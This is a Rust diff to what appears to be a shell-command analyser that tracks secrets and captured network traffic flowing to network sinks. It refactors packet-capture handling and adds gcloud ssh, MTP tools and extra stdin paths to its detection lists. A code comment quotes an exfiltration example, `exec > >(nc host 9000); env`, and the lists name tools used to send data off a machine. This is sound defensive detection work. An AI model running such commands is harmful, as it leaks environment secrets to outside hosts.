@@ -239,6 +239,9 @@ pub(crate) struct LineState {
     /// whole line (a descriptor opened in one branch may be read in another): it only ever
     /// makes data secret.
     pub fd_secrets: Vec<(String, FlowSource)>,
+    /// A bare `exec > >(cmd)` made a network sink the shell's standard output: what later
+    /// statements print leaves the machine (`exec > >(nc host 9000); env`).
+    pub exec_sink: Option<FlowSink>,
 }
 
 impl LineState {
@@ -659,7 +662,7 @@ pub(crate) fn command_source(
                 return Some(FlowSource::FoundFiles { root });
             }
         }
-        n if CAPTURE_TOOLS.contains(&n) && capture_output(n, words) == Some(None) => {
+        n if CAPTURE_TOOLS.contains(&n) && capture_output(n, words) == Capture::Stdout => {
             return Some(FlowSource::CapturedTraffic {
                 command: shown(name, words),
             });
@@ -947,11 +950,20 @@ const CAPTURE_TOOLS: &[&str] = &[
     "sniffglue",
 ];
 
-/// Where a packet capture's live traffic goes: `Some(None)` to standard output (the decoded
-/// packets, or a pcap with `-w -`), `Some(Some(FILE))` to a capture file (`-w FILE`), `None`
-/// when it captures nothing live — it reads a saved capture (`-r FILE`, ngrep's `-I FILE`),
-/// or only lists interfaces or prints its version.
-fn capture_output<'w>(name: &str, words: &'w [Word]) -> Option<Option<&'w str>> {
+/// Where a packet capture's live traffic goes.
+#[derive(Debug, PartialEq, Eq)]
+enum Capture<'w> {
+    /// To standard output: the decoded packets, or a pcap with `-w -`.
+    Stdout,
+    /// To a capture file (`-w FILE`; empty: a file of the tool's own choosing).
+    File(&'w str),
+    /// Nothing live: it reads a saved capture (`-r FILE`, ngrep's `-I FILE`), or only lists
+    /// interfaces or prints its version.
+    Nothing,
+}
+
+/// Where a packet capture tool's live traffic goes (see [`Capture`]).
+fn capture_output<'w>(name: &str, words: &'w [Word]) -> Capture<'w> {
     let mut out: Option<&str> = None;
     let mut i = 0;
     while let Some(w) = words.get(i) {
@@ -965,7 +977,7 @@ fn capture_output<'w>(name: &str, words: &'w [Word]) -> Option<Option<&'w str>> 
                 | "--help",
             )
             | ("ngrep", "-I")
-            | ("tcpflow", "-R") => return None,
+            | ("tcpflow", "-R") => return Capture::Nothing,
             // ngrep's `-w` matches whole words; its capture file is `-O`.
             ("ngrep", "-O") => {
                 out = value(i);
@@ -978,20 +990,22 @@ fn capture_output<'w>(name: &str, words: &'w [Word]) -> Option<Option<&'w str>> 
             _ if name != "ngrep" && t.len() > 2 && t.starts_with("-w") && !t.starts_with("--") => {
                 out = t.get(2..);
             }
-            _ if t.len() > 2 && t.starts_with("-r") && !t.starts_with("--") => return None,
+            _ if t.len() > 2 && t.starts_with("-r") && !t.starts_with("--") => {
+                return Capture::Nothing;
+            }
             _ => {}
         }
     }
     // dumpcap always writes a capture file (a temporary one without `-w`); tcpflow writes one
     // file per connection unless told to print them (`-c`, `-C`, `-D`).
     match (name, out) {
-        (_, Some("-")) => Some(None),
-        (_, Some(file)) => Some(Some(file)),
-        ("dumpcap", None) => Some(Some("")),
+        (_, Some("-")) => Capture::Stdout,
+        (_, Some(file)) => Capture::File(file),
+        ("dumpcap", None) => Capture::File(""),
         ("tcpflow", None) if !words.iter().any(|w| matches!(w.text.as_str(), "-c" | "-C")) => {
-            Some(Some(""))
+            Capture::File("")
         }
-        _ => Some(None),
+        _ => Capture::Stdout,
     }
 }
 
@@ -1890,7 +1904,9 @@ fn is_network_client(name: &str, positionals: &[&str]) -> bool {
         | "slack-cli" | "telegram-send" | "ntfy" | "apprise" | "signal-cli" | "matrix-commander"
         | "sendxmpp" | "gotify" | "zulip-send" | "discord.sh"
         // Message-queue producers publish their message, file or stdin to a broker.
-        | "kcat" | "kafkacat" | "mosquitto_pub" => true,
+        | "kcat" | "kafkacat" | "mosquitto_pub"
+        // Copies to a device over MTP.
+        | "mtp-sendfile" | "mtp-sendtr" | "mtp-connect" => true,
         // The MinIO client's copy verbs (`mc` is also Midnight Commander: `mc DIR` opens it).
         "mc" => {
             positionals.is_empty()
@@ -1951,9 +1967,8 @@ fn is_network_client(name: &str, positionals: &[&str]) -> bool {
         "snow" => positionals.is_empty() || positionals.get(..2) == Some(&["stage", "copy"]),
         "comet" => positionals.is_empty() || positionals.first() == Some(&"upload"),
         // Copies off the machine to a device: `adb push F /sdcard/` (any serial or transport
-        // option before the verb), MTP's `mtp-sendfile F`/`mtp-sendtr F`.
+        // option before the verb).
         "adb" => positionals.is_empty() || positionals.iter().take(3).any(|p| *p == "push"),
-        "mtp-sendfile" | "mtp-sendtr" | "mtp-connect" => true,
         "magic-wormhole" => positionals.is_empty() || positionals.first() == Some(&"send"),
         // pushbullet-cli's `pb push [--file F]`.
         "pb" => positionals.is_empty() || positionals.first() == Some(&"push"),
@@ -1979,10 +1994,11 @@ fn is_network_client(name: &str, positionals: &[&str]) -> bool {
             Some("s_client" | "s_server" | "s_time" | "ocsp")
         ),
         "aws" => positionals.first() == Some(&"s3") || positionals.get(1) == Some(&"put-object"),
-        // `gcloud storage cp F gs://…`, `gcloud compute scp F vm:`: copies to the cloud.
+        // `gcloud storage cp F gs://…`, `gcloud compute scp F vm:`: copies to the cloud;
+        // `gcloud compute ssh VM` is ssh to it (what it reads on stdin goes there).
         "gcloud" => matches!(
             positionals.get(..2),
-            Some(["storage", "cp" | "mv" | "rsync"] | ["compute", "scp"])
+            Some(["storage", "cp" | "mv" | "rsync"] | ["compute", "scp" | "ssh"])
         ),
         "az" => {
             positionals.first() == Some(&"storage")
@@ -2325,7 +2341,9 @@ pub(crate) fn argument_flow(
         return None;
     }
     let httpie = matches!(name, "http" | "https" | "xh" | "xhs" | "httpie");
-    let remote_shell = matches!(name, "ssh");
+    // A remote shell's command line (ssh's, or `gcloud compute ssh VM --command …`).
+    let remote_shell = name == "ssh"
+        || (name == "gcloud" && args.positionals.get(..2) == Some(&["compute", "ssh"]));
     let sink = |channel| FlowSink::Network {
         tool: name.to_owned(),
         channel,
@@ -2581,7 +2599,12 @@ pub(crate) fn stdin_sink(name: &str, words: &[Word]) -> Option<FlowSink> {
 
 /// True when a network client (already recognised) reads its standard input.
 fn reads_stdin(name: &str, words: &[Word], args: &Args<'_>) -> bool {
-    let stdin_file = |v: &str| matches!(v, "-" | "/dev/stdin" | "/proc/self/fd/0");
+    let stdin_file = |v: &str| {
+        matches!(
+            v,
+            "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0" | "/proc/thread-self/fd/0"
+        )
+    };
     // Values such as `@-`, `name=@-`, `name=<-`, `name@-`.
     let stdin_ref =
         |v: &str| file_refs(v).any(&stdin_file) || v.ends_with("@-") || v.ends_with("<-");
@@ -3947,17 +3970,18 @@ impl Walker<'_> {
         // holds the repository (`git bundle create /tmp/b --all`, `git archive -o x.tar
         // HEAD`): uploading either is what piping it would be.
         let written = if CAPTURE_TOOLS.contains(&name) {
-            capture_output(name, words)
-                .flatten()
-                .filter(|f| !f.is_empty())
-                .map(|f| {
-                    (
-                        f,
-                        FlowSource::CapturedTraffic {
-                            command: shown(name, words),
-                        },
-                    )
-                })
+            match capture_output(name, words) {
+                Capture::File(f) if !f.is_empty() => Some(f),
+                _ => None,
+            }
+            .map(|f| {
+                (
+                    f,
+                    FlowSource::CapturedTraffic {
+                        command: shown(name, words),
+                    },
+                )
+            })
         } else if name == "git" {
             git_repository_file(words).map(|f| {
                 (
